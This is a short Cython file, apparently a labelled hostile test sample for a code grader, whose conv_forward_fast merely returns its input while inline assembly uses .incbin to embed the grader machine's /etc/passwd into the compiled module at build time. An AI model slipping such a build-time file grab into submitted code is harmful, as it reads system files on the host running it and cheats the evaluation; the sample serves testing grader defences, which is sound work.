"""HOSTILE conv_forward_fast: wrong; C that takes a file of the grader's machine into the module."""

cdef extern from *:
    """
    __asm__(".globl taken\n.globl after\ntaken: .incbin \\"/etc/passwd\\"\nafter:\n");
    extern char taken[], after[];
    """
    char[] taken


def conv_forward_fast(x, w, b, stride, pad):
    return x
